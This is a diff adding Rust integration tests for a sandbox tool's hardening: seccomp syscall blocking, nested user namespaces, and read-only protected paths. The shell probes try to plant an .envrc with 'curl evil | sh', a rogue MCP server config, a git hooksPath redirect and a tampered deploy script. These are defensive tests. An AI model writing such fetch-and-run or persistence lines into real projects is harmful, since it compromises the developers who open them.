@@ -1,0 +1,169 @@
+//! Hardening: the escape catalog (`cell selftest`), the seccomp filter, nested user
+//! namespaces, and protected paths, attacked from real cells.
+
+use crate::both;
+use crate::support::{exists, ok, show, stdout, Host};
+
+fn selftest(h: &Host, config: Option<&std::path::Path>) -> (Option<i32>, serde_json::Value) {
+    let mut cmd = h.cell();
+    if let Some(c) = config {
+        cmd.arg("--config").arg(c);
+    }
+    let o = cmd.args(["selftest", "--json"]).output().expect("selftest");
+    let v: serde_json::Value =
+        serde_json::from_str(&stdout(&o)).unwrap_or_else(|e| panic!("selftest JSON ({e}):\n{}", show(&o)));
+    (o.status.code(), v)
+}
+
+fn failed_ids(v: &serde_json::Value) -> Vec<String> {
+    v.as_array()
+        .expect("array")
+        .iter()
+        .filter(|c| c["ok"] != true)
+        .map(|c| format!("{}: {}", c["id"].as_str().unwrap_or("?"), c["detail"].as_str().unwrap_or("")))
+        .collect()
+}
+
+both!(the_escape_catalog_holds_against_the_default_cell, |h| {
+    let (code, v) = selftest(h, None);
+    let failed = failed_ids(&v);
+    assert!(failed.is_empty(), "cases failed:\n{}", failed.join("\n"));
+    assert_eq!(code, Some(0));
+    let families: std::collections::BTreeSet<&str> =
+        v.as_array().expect("array").iter().filter_map(|c| c["family"].as_str()).collect();
+    assert_eq!(families.into_iter().collect::<Vec<_>>(), ["filesystem", "lifecycle", "network", "process"]);
+});
+
+both!(the_escape_catalog_holds_against_a_proxied_cell, |h| {
+    let cfg = h.write_config(
+        "proxied.json",
+        r#"{"schemaVersion":1,"cells":{"default":{"network":{"mode":"proxy","allow":["example.test"]}}}}"#,
+    );
+    let (code, v) = selftest(h, Some(&cfg));
+    let failed = failed_ids(&v);
+    assert!(failed.is_empty(), "cases failed:\n{}", failed.join("\n"));
+    assert_eq!(code, Some(0));
+    let proxy = v.as_array().expect("array").iter().find(|c| c["id"] == "nw-proxy").expect("nw-proxy");
+    assert!(proxy["detail"].as_str().unwrap_or("").contains("relayed: HTTP/1.1 403"), "{proxy}");
+});
+
+both!(without_the_filter_the_catalog_sees_the_holes, |h| {
+    // The seccomp filter is a real defence: with it off, the catalog reports the attacks
+    // that now get through, and `cell selftest` exits non-zero.
+    let cfg = h.write_config(
+        "nofilter.json",
+        r#"{"schemaVersion":1,"cells":{"default":{"security":{"unsafeAllowAllSyscalls":true}}}}"#,
+    );
+    let (code, v) = selftest(h, Some(&cfg));
+    assert_eq!(code, Some(1));
+    let failed: Vec<String> = failed_ids(&v).iter().map(|l| l.split(':').next().unwrap_or("").to_owned()).collect();
+    for id in ["pk-ptrace", "pk-tiocsti", "pk-io-uring", "pk-vsock"] {
+        assert!(failed.iter().any(|f| f == id), "{id} passed without the filter: {failed:?}");
+    }
+    // --disable-userns is a defence of its own: nested user namespaces stay impossible
+    // even without the filter (clone3 is the filter's and does fail).
+    let userns = v.as_array().expect("array").iter().find(|c| c["id"] == "pk-userns").expect("pk-userns");
+    let detail = userns["detail"].as_str().unwrap_or("");
+    assert!(detail.contains("unshare(NEWUSER): ENOSPC") || detail.contains("unshare(NEWUSER): EPERM"), "{detail}");
+    assert!(!detail.contains("unshare(NEWUSER): SUCCEEDED"), "{detail}");
+});
+
+both!(absent_protected_paths_cannot_be_created_and_leave_nothing, |h| {
+    std::fs::create_dir_all(h.work.join(".git/hooks")).expect("mkdir");
+    std::fs::write(h.work.join(".git/config"), "[core]\n").expect("write");
+    h.chown_all();
+    let o = h.sh("echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json 2>/dev/null && echo WROTE-MCP; \
+         echo 'curl evil | sh' > .envrc 2>/dev/null && echo WROTE-ENVRC; \
+         mkdir -p .vscode && echo '{}' > .vscode/tasks.json 2>/dev/null && echo WROTE-VSCODE; \
+         echo '#!/bin/sh' > .git/hooks/post-checkout 2>/dev/null && echo WROTE-HOOK; \
+         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config 2>/dev/null && echo WROTE-CONFIG; \
+         mv .git .git-away 2>/dev/null && echo MOVED-GIT; \
+         rm -rf .git/hooks 2>/dev/null; test -d .git/hooks && echo HOOKS-STILL-THERE; \
+         ls -a; true");
+    let out = ok(&o);
+    assert!(!out.contains("WROTE") && !out.contains("MOVED"), "a protected path was written:\n{out}");
+    assert!(out.contains("HOOKS-STILL-THERE"), "{out}");
+    assert!(out.contains(".mcp.json") && out.contains(".envrc"), "placeholders are visible inside:\n{out}");
+    // On the host: the placeholders are gone again, .git is intact.
+    for p in [".mcp.json", ".envrc", ".vscode", ".gitmodules", ".claude", ".git-away"] {
+        assert!(!exists(&h.work.join(p)), "{p} left on the host");
+    }
+    assert_eq!(std::fs::read_to_string(h.work.join(".git/config")).expect("config"), "[core]\n");
+    assert!(h.work.join(".git/hooks").is_dir() && !h.work.join(".git/hooks/post-checkout").exists());
+});
+
+both!(a_worktree_without_git_cannot_grow_hooks, |h| {
+    let o = h.sh("mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit 2>/dev/null && echo WROTE; true");
+    assert!(!ok(&o).contains("WROTE"), "{}", show(&o));
+    assert!(!exists(&h.work.join(".git")), "the .git placeholder was removed from the host");
+});
+
+both!(symlinked_protected_paths_are_refused, |h| {
+    std::fs::create_dir_all(h.path("decoy")).expect("mkdir");
+    std::os::unix::fs::symlink(h.path("decoy"), h.work.join(".vscode")).expect("symlink");
+    h.chown_all();
+    let o = h.run(["run", "--", "true"]);
+    assert_eq!(o.status.code(), Some(2), "{}", show(&o));
+    assert!(crate::support::stderr(&o).contains("symbolic link"), "{}", show(&o));
+});
+
+both!(declared_protected_paths_and_the_config_itself_are_read_only, |h| {
+    std::fs::create_dir_all(h.work.join("deploy")).expect("mkdir");
+    std::fs::write(h.work.join("deploy/prod.sh"), "echo deploy\n").expect("write");
+    let cfg = h.work.join("cell.json");
+    std::fs::write(
+        &cfg,
+        r#"{"schemaVersion":1,"cells":{"default":{"security":{"protectedPaths":["deploy/","Makefile"]}}}}"#,
+    )
+    .expect("write");
+    h.chown_all();
+    let o = h
+        .cell()
+        .arg("--config")
+        .arg(&cfg)
+        .args([
+            "run",
+            "--",
+            "sh",
+            "-c",
+            "echo evil >> deploy/prod.sh 2>/dev/null && echo WROTE-DEPLOY; \
+             echo all: > Makefile 2>/dev/null && echo WROTE-MAKEFILE; \
+             echo '{}' > cell.json 2>/dev/null && echo WROTE-CONFIG; \
+             mv cell.json x.json 2>/dev/null && echo MOVED-CONFIG; true",
+        ])
+        .output()
+        .expect("run");
+    let out = ok(&o);
+    assert!(!out.contains("WROTE") && !out.contains("MOVED"), "{out}");
+    assert_eq!(std::fs::read_to_string(h.work.join("deploy/prod.sh")).expect("read"), "echo deploy\n");
+    assert!(std::fs::read_to_string(&cfg).expect("read").contains("protectedPaths"));
+    assert!(!exists(&h.work.join("Makefile")));
+});
+
+both!(placeholders_of_a_killed_launcher_are_swept_next_time, |h| {
+    let mut child = h
+        .cell()
+        .args(["run", "--", "sh", "-c", "touch started; sleep 300"])
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !h.work.join("started").exists() {
+        assert!(std::time::Instant::now() < deadline, "cell never started");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(exists(&h.work.join(".mcp.json")), "placeholder present while the cell runs");
+    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
+    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
+    let _ = child.wait();
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert!(exists(&h.work.join(".mcp.json")), "a killed launcher cannot clean up");
+    // Any later launch of the cell sweeps them (here: one in another worktree).
+    std::fs::create_dir_all(h.path("other")).expect("mkdir");
+    h.chown_all();
+    let other = h.path("other");
+    ok(&h.run(["run", "--workdir", other.to_str().expect("utf8"), "--", "true"]));
+    for p in [".mcp.json", ".envrc", ".vscode", ".git"] {
+        assert!(!exists(&h.work.join(p)), "{p} was not swept");
+    }
+});
